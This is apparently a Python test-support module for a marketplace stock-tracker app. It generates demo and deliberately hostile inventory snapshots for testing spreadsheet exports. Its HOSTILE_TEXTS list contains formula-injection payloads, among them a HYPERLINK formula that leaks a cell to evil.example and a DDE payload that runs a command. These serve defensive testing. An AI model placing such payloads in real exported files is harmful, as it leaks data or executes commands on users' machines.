"""Snapshots to export, written through storage the way a sync writes them, and the fake Google."""

from __future__ import annotations

import random
from datetime import UTC, datetime

from stock_tracker_desktop.domain.figures import LevelFigures, days_of_stock, is_low_stock
from stock_tracker_desktop.domain.models import Marketplace, Product, WarehouseType
from stock_tracker_desktop.domain.window import last_full_days
from stock_tracker_desktop.services.context import AppContext
from stock_tracker_desktop.services.tenants import TenantDraft, TenantService, TenantView
from stock_tracker_desktop.storage.snapshot_writer import SnapshotData, write_snapshot
from tests.support.tokens import wb_token

WINDOW_DAYS = 7
THRESHOLD = 14.0
FBO_WAREHOUSES = ("Коледино", "Электросталь", "Казань", "Санкт-Петербург Уткина Заводь")
FBS_WAREHOUSES = ("Склад на Ленина; 5", "Коледино")  # a name shared by an FBO warehouse


def add_tenant(
    ctx: AppContext, name: str, marketplace: Marketplace = Marketplace.WILDBERRIES, **extra: object
) -> TenantView:
    if marketplace is Marketplace.WILDBERRIES:
        draft = TenantDraft(name=name, marketplace=marketplace, token=wb_token(), **extra)  # type: ignore[arg-type]
    else:
        draft = TenantDraft(
            name=name,
            marketplace=marketplace,
            client_id="123456",
            api_key="0f0e0d0c-0b0a-0908-0706-050403020100",
            **extra,  # type: ignore[arg-type]
        )
    return TenantService(ctx).add(draft).tenant


def _levels(rng: random.Random, product: str) -> list[LevelFigures]:
    places = [(w, WarehouseType.FBO) for w in FBO_WAREHOUSES]
    places += [(w, WarehouseType.FBS) for w in FBS_WAREHOUSES]
    found = []
    for warehouse, kind in rng.sample(places, rng.randint(1, 4)):
        quantity = rng.choice([0, 0, 1, 3, 12, 150, 4000])
        orders = rng.choice([0, 0, 1, 2, 7, 30, 333])
        days = days_of_stock(quantity, orders, WINDOW_DAYS)
        to_customers = rng.randint(0, 5) if kind is WarehouseType.FBO else 0
        returns = rng.randint(0, 2) if kind is WarehouseType.FBO else 0
        found.append(
            LevelFigures(
                product,
                warehouse,
                kind,
                quantity,
                to_customers,
                returns,
                orders,
                days,
                is_low_stock(quantity, orders, days, THRESHOLD),
            )
        )
    if rng.random() < 0.2:  # WB's in-transit figures not tied to a warehouse
        found.append(
            LevelFigures(product, "", WarehouseType.FBO, 0, rng.randint(1, 9), 1, 0, None, False)
        )
    return found


def _write(
    ctx: AppContext, tenant: TenantView, catalogue: list[Product], levels: list[LevelFigures]
) -> None:
    write_snapshot(
        ctx.database,
        SnapshotData(
            tenant_id=tenant.id,
            sync_run_id=None,
            taken_at=datetime(2026, 7, 30, 3, 15, 42, tzinfo=UTC),
            window=last_full_days(WINDOW_DAYS),
            threshold_days=THRESHOLD,
            products=catalogue,
            levels=levels,
            order_lines=[],
        ),
    )


def write_demo_snapshot(
    ctx: AppContext, tenant: TenantView, *, products: int = 25, seed: int = 1
) -> None:
    """A snapshot with every case an export must render: zero orders (empty days), stock 0
    with orders (low), several warehouses of both types, a shared warehouse name, in-transit
    rows without a warehouse, ids with leading zeros and texts with separators and quotes."""
    rng = random.Random(seed)
    catalogue = []
    levels: list[LevelFigures] = []
    for i in range(products):
        product_id = f"0{i}" if i % 10 == 9 else str(100_000 + i)
        catalogue.append(
            Product(
                product_id=product_id,
                vendor_code=f"ART-{i:05d}" if i % 7 else f'00{i}, "new"',
                name=f"Товар №{i}; размер M" if i % 3 else f"Product {i}",
                brand=rng.choice(["Бренд А", "Brand B", "Ёлка"]),
                subject=rng.choice(["Футболки", "Платья", "Куртки"]),
            )
        )
        levels.extend(_levels(rng, product_id))
    _write(ctx, tenant, catalogue, levels)


# Texts a spreadsheet would run as formulas (OWASP's list of first characters: = + - @ tab CR),
# the classic DDE payload, and a vertical tab, which XML (so XLSX) cannot hold at all.
HOSTILE_TEXTS: tuple[str, ...] = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Скидка")',
    "+7 (999) 000-00-00",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
)
HOSTILE_WAREHOUSES = ("=Коледино", "@Склад продавца")
HOSTILE_TENANT = "=Магазин+1"
VERTICAL_TAB = "Товар\x0bс переносом"


def write_hostile_snapshot(ctx: AppContext, tenant: TenantView) -> None:
    """One product per hostile text (and one for the vertical tab), each text in every text
    field in turn (name, brand, subject, vendor code), on hostile warehouse names; the first
    level's stock is -5, a negative number that must stay a number."""
    texts = (*HOSTILE_TEXTS, VERTICAL_TAB)
    catalogue, levels = [], []
    for i in range(len(texts)):
        fields = [texts[(i + shift) % len(texts)] for shift in range(4)]
        catalogue.append(
            Product(
                product_id=str(200_000 + i),
                name=fields[0],
                brand=fields[1],
                subject=fields[2],
                vendor_code=fields[3],
            )
        )
        product_id = catalogue[-1].product_id
        for n, warehouse in enumerate(HOSTILE_WAREHOUSES):
            quantity = -5 if i == n == 0 else 10 + i
            days = days_of_stock(quantity, 7, WINDOW_DAYS)
            kind = WarehouseType.FBO if n == 0 else WarehouseType.FBS
            low = is_low_stock(quantity, 7, days, THRESHOLD)
            levels.append(LevelFigures(product_id, warehouse, kind, quantity, 0, 0, 7, days, low))
    _write(ctx, tenant, catalogue, levels)
